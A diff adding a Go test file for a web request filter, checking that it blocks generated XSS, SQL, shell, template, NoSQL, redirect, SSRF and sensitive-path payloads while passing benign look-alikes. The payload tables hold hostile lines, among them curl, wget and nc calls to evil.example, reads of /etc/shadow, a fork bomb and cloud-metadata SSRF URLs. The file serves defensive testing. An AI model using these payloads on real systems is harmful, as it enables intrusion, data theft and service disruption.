@@ -1,0 +1,219 @@
+package filter
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+// Attack and look-alike tables generated from the grammar of each class
+// (the ways a language lets one say the same thing), not copied from a
+// corpus: every positive is the cross product of a few interchangeable
+// parts, and every negative is a benign value that shares the attack's
+// words or symbols. Each is sent in the places a real client puts values
+// (query, form, JSON), at default settings.
+
+// cross joins every a with every b through sep.
+func cross(sep string, parts ...[]string) []string {
+	out := []string{""}
+	for i, p := range parts {
+		var next []string
+		for _, o := range out {
+			for _, x := range p {
+				if i == 0 {
+					next = append(next, x)
+				} else {
+					next = append(next, o+sep+x)
+				}
+			}
+		}
+		out = next
+	}
+	return out
+}
+
+// grammarAttacks are positives by class; placement names the parameter.
+func grammarAttacks() map[string][]string {
+	m := map[string][]string{}
+	// XSS as JavaScript without markup.
+	for _, obj := range []string{"window", "self", "top", "parent", "this", "globalThis", "frames"} {
+		for _, name := range []string{`'al'+'ert'`, `"\x61lert"`, `/al/.source+/ert/.source`, "`ale`+`rt`", `atob('YWxlcnQ=')`} {
+			m["xss"] = append(m["xss"], obj+"["+name+"](document.domain)", obj+"["+name+"]`1`")
+		}
+	}
+	for _, f := range []string{"alert", "prompt", "confirm", "eval", "setTimeout", "fetch"} {
+		m["xss"] = append(m["xss"], f+"`1`", "'-"+f+"(1)-'", `";`+f+`(1)//`, `\';`+f+`(document.cookie)//`)
+	}
+	m["xss"] = append(m["xss"],
+		"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
+		"(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+[][[]]",
+	)
+	for _, tag := range []string{"object data", "embed src", "iframe src", "frame src"} {
+		el, attr, _ := strings.Cut(tag, " ")
+		for _, u := range []string{"//evil.example/x.html", "javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="} {
+			if el == "object" || el == "embed" || !strings.HasPrefix(u, "http") {
+				m["xss"] = append(m["xss"], fmt.Sprintf("<%s %s=%s>", el, attr, u), fmt.Sprintf(`<%s %s="%s"></%s>`, el, attr, u, el))
+			}
+		}
+	}
+	m["xss"] = append(m["xss"],
+		`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel="import" href="//evil.example/x">`,
+		`<style>@import '//evil.example/x.css';</style>`, `<style>body{background:url(javascript:alert(1))}</style>`,
+		`<div style="width: expression(alert(1))">`, "<\x00script>alert(1)</script>", "<\x0bimg src=x onerror=alert(1)>",
+		`<img src=x o<b>nerror=alert(1)>`, `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>`)
+
+	// SQL fragments without quotes, and statements.
+	m["sqli"] = append(m["sqli"], cross(" ", []string{"1", "1)", "-1"}, []string{"AND", "OR", "&&", "||"}, []string{"1=1", "2>1", "1=1--", "1=1#", "1 LIKE 1", "5 BETWEEN 1 AND 9"})...)
+	m["sqli"] = append(m["sqli"], cross(" ", []string{"1", "1'", "name"}, []string{"ORDER BY", "GROUP BY"}, []string{"1--", "3#", "10 /*", "1,2,3--"})...)
+	for _, stmt := range []string{"SELECT @@version", "select version()", "SELECT user()", "select banner from v$version", "SELECT * FROM information_schema.tables", "select name from sysibm.systables", "SELECT table_name FROM all_tables", "select * from pg_catalog.pg_tables", "select sql from sqlite_master", "SELECT name FROM sys.databases", "SELECT 1 FROM dual", "DECLARE @q varchar(99) SET @q='x' EXEC(@q)", "1 AND SLEEP(5)", "1 or pg_sleep(5)", "1;WAITFOR DELAY '0:0:5'--", "1 AND 1=(SELECT 1)", "IF((SELECT 1)=1,SLEEP(3),0)"} {
+		m["sqli"] = append(m["sqli"], stmt, strings.ReplaceAll(stmt, " ", "/**/"))
+	}
+
+	// Command lines: prefix × command × argument, and shell grammar.
+	m["rce"] = append(m["rce"], cross(" ", []string{"", "time", "nohup", "sudo", "env", "strace"}, []string{"/bin/cat /etc/hosts", "/usr/bin/id", "sh -c id", "bash -c 'id'", "python3 -c 'import os'", "perl -e 'print 1'", "curl http://evil.example/x.sh", "wget http://evil.example/x", "nc evil.example 4444", "cat /etc/shadow"})...)
+	for _, sep := range []string{";", "|", "||", "&&", "\n", "`", "$("} {
+		for _, c := range []string{"id", "whoami", "uname -a", "ls -la", "cat /etc/passwd", "ping -c 3 127.0.0.1"} {
+			p := sep + c
+			switch sep {
+			case "`":
+				p += "`"
+			case "$(":
+				p += ")"
+			}
+			m["rce"] = append(m["rce"], "127.0.0.1"+p, "report.pdf"+p)
+		}
+	}
+	m["rce"] = append(m["rce"], "<(cat /etc/hosts)", ">(tee /tmp/x)", "$(cmd)", ":(){ :|:& };:", "f(){ f|f& };f", "{,ip,a}", "/e[t]c/pa[s]swd", "cat /et?/pa??wd",
+		"'wh'oami", `w\hoami`, `"w"get evil.example`, "alias x=id;x", "FOR /F %G IN ('dir /b') DO echo %G", "for %i in (*) do type %i",
+		"IF EXIST C:\\boot.ini ECHO found", "if %ERRORLEVEL% NEQ 0 echo x", "cmd /c whoami", "powershell -enc SQBFAFgA", "Invoke-WebRequest http://evil.example/x.ps1")
+
+	// Template expressions of the common engines.
+	m["ssti"] = []string{"{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "${{7*7}}", "{{config}}", "{{self}}", "{{ self.__init__ }}", "{$smarty.version}", "{php}echo 1;{/php}", "#{1+1}", "${1+1}", "*{7*7}", "[[${7*7}]]",
+		"{{request.application.__globals__}}", "${T(java.lang.Runtime).getRuntime().exec('id')}", `<#assign ex="freemarker.template.utility.Execute"?new()>`, "#set($x=1)", "{{constructor.constructor('return 1')()}}",
+		"{{''.__class__.__mro__}}", "@(1+2)", "{{= 7*7}}", "{% debug %}", "{{dump(app)}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}", "<%= system('id') %>", "${product.getClass()}", "#{session.getAttribute('x')}"}
+
+	// NoSQL operators in JSON strings and bracket notation values.
+	m["nosqli"] = []string{`{"$ne": null}`, `{"$gt": ""}`, `{"$regex": ".*"}`, `{"$where": "sleep(100)"}`, `'; return true; var x='`, `{"$or": [{}, {"a": "a"}]}`, `{"$expr": {"$eq": [1, 1]}}`}
+
+	// Open redirects in redirect-like parameters (sent as "next").
+	m["redirect"] = []string{"/\\evil.example", "\\\\evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example", "///evil.example", "//%2fevil.example", "/%09/evil.example", " //evil.example", "\t//evil.example", "https://trusted.example@evil.example", "javascript:alert(1)", "http:\\\\evil.example"}
+
+	// SSRF in fetch-like parameters (sent as "url").
+	m["ssrf"] = []string{"http://127.0.0.1/", "http://localhost:8080/admin", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://127.1/", "http://0.0.0.0:22/", "http://10.0.0.5/internal", "http://192.168.1.1/", "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "http://evil.example@127.0.0.1/", "http://[::ffff:127.0.0.1]/", "http://localtest.me/"}
+	return m
+}
+
+// grammarPaths are requests for sensitive files and admin surfaces, in the
+// spellings that reach them past a naive prefix match.
+func grammarPaths() []string {
+	var out []string
+	for _, f := range []string{".git/config", ".git/HEAD", ".svn/entries", ".svn/wc.db", ".hg/hgrc", ".env", ".env.production", ".aws/credentials", ".ssh/id_rsa", ".htpasswd", "WEB-INF/web.xml", "META-INF/MANIFEST.MF", "backup.zip", "db.sql", "dump.sql.gz", "site.tar.gz", "wp-config.php.bak", "index.php~", "config.php.swp", "server-status", "actuator/env", "actuator/heapdump", "phpinfo.php", ".DS_Store", "terraform.tfstate", "jmx-console/", "manager/html"} {
+		out = append(out, "/"+f, "/app/"+f, "/static/..;/"+f, "/%2e/"+f, "/./"+f, "/"+strings.ToUpper(f[:1])+f[1:])
+	}
+	return out
+}
+
+// grammarBenign are look-alikes: search queries about SQL and HTML, code
+// snippets, rich text, template placeholders, URLs in telemetry, prose.
+var grammarBenign = []string{
+	"select the best union for your team", "how to use ORDER BY in sql", "difference between union and union all", "select * from users where id = ? (prepared statement)",
+	"what does 1=1 mean in sql injection", "and then there were none", "or maybe not", "I'd like to order by phone", "Rock & Roll || Jazz", "Terms & Conditions apply",
+	"<script", "<scr", "<b>bold</b> and <i>italic</i>", `<p>See <a href="https://example.com/docs">the docs</a>.</p>`, `<a href="javascript:void(0)" class="btn">Open</a>`,
+	`<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" allowfullscreen></iframe>`,
+	"const el = document.querySelector('#app'); el.classList.add('ready');", "$(document).ready(function () { init(); });", "arr[0] = items[i] + 1;", "x = [1, 2, 3].map(n => n * 2)",
+	"Hello {{first_name}}, your order {{order.id}} ships soon", "Dear ${customer.name}", "{{#if user}}Hi {{user.name}}{{/if}}", "{{#each items}}<li>{{this}}</li>{{/each}}", "{% for item in cart %}{{ item.name }}{% endfor %}",
+	"It's the user's choice, isn't it? We'll see what they're doing.", "O'Brien's café doesn't open 'til nine",
+	"run `npm install` then `npm test`", "Use the --force flag with care", "time flies like an arrow", "env: production", "cat: Maine Coon, age 3", "id: 12345",
+	"ping me when you're back", "sudo make me a sandwich", "Files like /usr/bin/python3.* are managed by the package manager.",
+	"https://www.google.com/search?q=union+select+tutorial", "/dashboard?tab=settings",
+	`<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>a@example.com</EMailAddress></Request></Autodiscover>`,
+	"{{.}}", `{{printf "%s" .Name}}`, "{{range .Items}}{{.Title}}{{end}}", "{{ app.user.username }}", "{{ request.path }}",
+	"price: $7 * 7 items", "{count, plural, one {# item} other {# items}}", "FOR SALE: bike, if interested call", "if not defined, the default is used",
+}
+
+// grammarBenignPaths are ordinary paths that share words with the
+// sensitive list.
+var grammarBenignPaths = []string{"/api/v1/users/42", "/static/app.3f2a9c.js", "/.well-known/openid-configuration", "/downloads/release-1.2.zip", "/docs/environment-variables", "/blog/git-tips-and-tricks", "/images/logo.svg", "/api/backup-policies/7", "/sql-tutorial/select", "/files/report-2024.pdf", "/assets/env.js", "/github/webhook", "/api/admin/users", "/status", "/health"}
+
+// sendIn builds the request that carries v in the given place.
+func sendIn(place, name, v string) *http.Request {
+	switch place {
+	case "query":
+		return newReq("GET", "http://app.example.com/search?"+url.Values{name: {v}}.Encode(), "", "")
+	case "form":
+		return newReq("POST", "http://app.example.com/submit", "application/x-www-form-urlencoded", url.Values{name: {v}}.Encode())
+	default:
+		b, _ := json.Marshal(map[string]string{name: v})
+		return newReq("POST", "http://app.example.com/api", "application/json", string(b))
+	}
+}
+
+func TestGrammarAttacks(t *testing.T) {
+	eng, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	param := map[string]string{"redirect": "next", "ssrf": "url"}
+	for class, payloads := range grammarAttacks() {
+		name := param[class]
+		if name == "" {
+			name = "q"
+		}
+		missed, total := 0, 0
+		for _, p := range payloads {
+			for _, place := range []string{"query", "form", "json"} {
+				total++
+				d, err := eng.Inspect(sendIn(place, name, p))
+				if err != nil {
+					t.Fatal(err)
+				}
+				if !d.Blocked {
+					missed++
+					t.Errorf("%s in %s passed: %q (score %d %v)", class, place, p, d.Score, d.Matches)
+				}
+			}
+		}
+		t.Logf("%-8s %d/%d blocked", class, total-missed, total)
+	}
+	for _, p := range grammarPaths() {
+		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+p, "", ""))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !d.Blocked {
+			t.Errorf("sensitive path passed: %q (score %d %v)", p, d.Score, d.Matches)
+		}
+	}
+}
+
+func TestGrammarBenign(t *testing.T) {
+	eng, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, v := range grammarBenign {
+		for _, name := range []string{"q", "text", "next", "url"} {
+			for _, place := range []string{"query", "form", "json"} {
+				d, err := eng.Inspect(sendIn(place, name, v))
+				if err != nil {
+					t.Fatal(err)
+				}
+				if d.Blocked {
+					t.Errorf("benign %s=%q in %s blocked: %v", name, v, place, d.Matches)
+				}
+			}
+		}
+	}
+	for _, p := range grammarBenignPaths {
+		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+p, "", ""))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d.Score > 0 {
+			t.Errorf("benign path %q scored %d: %v", p, d.Score, d.Matches)
+		}
+	}
+}
